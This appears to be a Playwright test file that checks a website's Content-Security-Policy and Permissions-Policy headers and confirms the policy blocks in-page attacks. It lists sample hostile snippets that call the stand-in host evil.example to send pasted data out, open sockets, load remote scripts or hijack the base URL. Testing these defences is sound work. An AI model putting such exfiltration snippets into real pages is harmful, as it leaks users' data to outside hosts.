import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { compareAnswers } from '../../scripts/hosts/compare-answers.ts';
import { contentSecurityPolicy } from '../../src/delivery/security-headers.ts';
import { readPages } from '../support/read-pages.ts';
import { test as sealed } from '../support/sealed-page.ts';

const dist = join(import.meta.dirname, '../../dist');

test('the server answers every kind of address as declared', async ({ baseURL }) => {
  const host = (process.env.SIGNPOST_HOST ?? 'local-server') as Parameters<typeof compareAnswers>[1];
  expect(await compareAnswers(baseURL ?? '', host, dist)).toEqual([]);
});

test('every page says the policy itself before it names a script, all but who may frame it', () => {
  const pages = readPages(dist);
  expect(pages.length).toBeGreaterThan(5);
  for (const { file, policy, head } of pages) {
    expect(policy, file).toEqual(contentSecurityPolicy.filter((directive) => !directive.startsWith('frame-ancestors')));
    expect(head.indexOf('http-equiv="Content-Security-Policy"'), file).toBeLessThan(head.search(/<script|<link/));
  }
});

sealed('the worker for long pastes starts under the policy', async ({ page }) => {
  const started = page.waitForEvent('worker');
  await page.goto('/en/');
  expect(new URL((await started).url()).pathname).toMatch(/^\/assets\/diagnose-worker-.+\.js$/);
  expect(await (await started).evaluate(() => 6 * 7)).toBe(42);
});

/** What something inside the page might try, and the directive that stops it. The code runs in the page. */
const attempts: readonly { readonly what: string; readonly code: string; readonly directive: string }[] = [
  { what: 'send something elsewhere', code: "fetch('https://evil.example/?paste')", directive: 'connect-src' },
  {
    what: 'beacon something elsewhere',
    code: "navigator.sendBeacon('https://evil.example/')",
    directive: 'connect-src',
  },
  { what: 'open a socket elsewhere', code: "new WebSocket('wss://evil.example/')", directive: 'connect-src' },
  { what: 'run a script from elsewhere', code: "import('https://evil.example/x.js')", directive: 'script-src-elem' },
  { what: 'load a picture elsewhere', code: "new Image().src = 'https://evil.example/?paste'", directive: 'img-src' },
  {
    what: 'send a form',
    code: "document.body.append(Object.assign(document.createElement('form'), { id: 'f', action: '/en/' })), f.submit()",
    directive: 'form-action',
  },
  {
    what: 'frame another page',
    code: "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
    directive: 'frame-src',
  },
  {
    what: 'change where addresses start',
    code: "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
    directive: 'base-uri',
  },
  {
    what: 'run an inline script',
    code: "document.body.setAttribute('onclick', '1'), document.body.click()",
    directive: 'require-trusted-types-for',
  },
  {
    what: 'turn text into markup',
    code: "document.body.innerHTML = '<b>x</b>'",
    directive: 'require-trusted-types-for',
  },
  { what: 'turn text into a worker', code: "new Worker('/assets/x.js')", directive: 'require-trusted-types-for' },
  {
    what: 'allow itself to turn text into markup',
    code: "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    directive: 'trusted-types',
  },
];

test('the policy stops whatever something inside the page might try', async ({ page }) => {
  await page.goto('/en/');
  await expect(page.locator('h1').first()).toBeVisible();
  for (const { what, code, directive } of attempts) {
    expect.soft(await violated(page, code), what).toBe(directive);
  }
});

test('the page has given up every ability of the browser but writing to the clipboard', async ({ page }) => {
  const complaints: string[] = [];
  page.on('console', (message) => complaints.push(message.text()));
  const response = await page.goto('/en/');
  const header = response?.headers()['permissions-policy'] ?? '';
  const named = header.split(', ').map((one) => one.split('=')[0] ?? '');
  const allowed = await page.evaluate(
    `${JSON.stringify(named)}.filter((name) => document.featurePolicy.allowsFeature(name))`,
  );
  expect(named.length).toBeGreaterThan(20);
  expect(allowed).toEqual(['clipboard-write']);
  // The browser would say which of the names it does not know.
  expect(complaints).toEqual([]);
});

/** Runs code in the page. @returns The directive of the policy that it broke, or `none`. */
function violated(page: Page, code: string): Promise<string> {
  return page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve('none'), 2000);
    try { ${code}; } catch { /* The event tells. */ }
  })`);
}
